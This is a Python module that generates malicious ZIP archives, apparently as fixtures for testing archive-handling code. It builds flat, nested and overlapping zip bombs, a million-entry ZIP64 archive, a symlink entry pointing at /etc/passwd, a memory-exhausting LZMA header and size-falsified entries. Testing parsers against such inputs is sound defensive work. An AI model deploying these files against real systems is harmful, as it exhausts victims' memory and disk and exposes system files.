"""Files that try something with whoever opens them, each made small."""

import io
import stat
import struct
import zipfile
import zlib

_LOCAL, _CENTRAL, _END = b"PK\x03\x04", b"PK\x01\x02", b"PK\x05\x06"
_END_LARGE, _WHERE_LARGE = b"PK\x06\x06", b"PK\x06\x07"
_LZMA = 14


def flat_bomb(unpacked: int = 512 << 20) -> bytes:
    """Zeros, a thousand of them for each byte."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("ceros.txt", "w") as entry:
        for _ in range(unpacked >> 20):
            entry.write(bytes(1 << 20))
    return out.getvalue()


def nested_bomb(deep: int = 6) -> bytes:
    """A ZIP of ten ZIPs of ten ZIPs …"""
    content, name = bytes(1 << 20), "ceros.txt"
    for _ in range(deep):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for each in range(10):
                archive.writestr(f"{each}-{name}", content)
        content, name = out.getvalue(), "más.zip"
    return content


def overlapping(entries: int = 2_000) -> bytes:
    """Entries that all unpack the same bytes: small on the disk, and quadratic for whoever reads them."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(bytes(1 << 20)) + packer.flush()
    check = zlib.crc32(bytes(1 << 20))
    local = _LOCAL + struct.pack("<5H3L2H", 20, 0, 8, 0, 0, check, len(packed), 1 << 20, 1, 0) + b"a"
    names = [f"{each:05}".encode() for each in range(entries)]
    listed = b"".join(_entry(name, len(packed), 1 << 20, check, method=8) for name in names)
    return _whole(local + packed, listed, entries)


def very_many(entries: int = 1_000_000) -> bytes:
    """A list of so many empty files, in the form that has room for them."""
    one = _entry(b"%07d", 0, 0, 0)
    listed = b"".join(one.replace(b"%07d", b"%07d" % each) for each in range(entries))
    large = _END_LARGE + struct.pack("<Q2H2L4Q", 44, 45, 45, 0, 0, entries, entries, len(listed), 4)
    where = _WHERE_LARGE + struct.pack("<LQL", 0, 4 + len(listed), 1)
    end = _END + struct.pack("<4H2LH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return _LOCAL + listed + large + where + end


def link(to: str = "/etc/passwd") -> bytes:
    """A file that is only a way to another."""
    out, entry = io.BytesIO(), zipfile.ZipInfo("1.1.1/acta.pdf")
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(entry, to)
    return out.getvalue()


def greedy(memory: int = 0xE0000000) -> bytes:
    """An entry whose packer asks for so many bytes of memory before it gives the first one."""
    raw = struct.pack("<2BH", 9, 4, 5) + struct.pack("<BL", 93, memory) + bytes(64)
    local = _LOCAL + struct.pack("<5H3L2H", 63, 0, _LZMA, 0, 0, 0, len(raw), 100, 9, 0) + b"1.1.1.txt"
    listed = _entry(b"1.1.1.txt", len(raw), 100, 0, method=_LZMA)
    return _whole(local + raw, listed, 1)


def lying(content: bytes, says: int) -> bytes:
    """A ZIP whose only entry says that it unpacks to other bytes than it does."""
    data = bytearray(content)
    real = zipfile.ZipFile(io.BytesIO(content)).infolist()[0].file_size
    for at in range(len(data) - 4):
        if data[at : at + 4] == struct.pack("<I", real):
            data[at : at + 4] = struct.pack("<I", says)
    return bytes(data)


def _entry(name: bytes, packed: int, size: int, check: int, *, method: int = 0) -> bytes:
    head = struct.pack("<6H3L5H2L", 20, 20, 0, method, 0, 0, check, packed, size, len(name), 0, 0, 0, 0, 0, 0)
    return _CENTRAL + head + name


def _whole(before: bytes, listed: bytes, entries: int) -> bytes:
    end = struct.pack("<4H2LH", 0, 0, entries, entries, len(listed), len(before), 0)
    return before + listed + _END + end
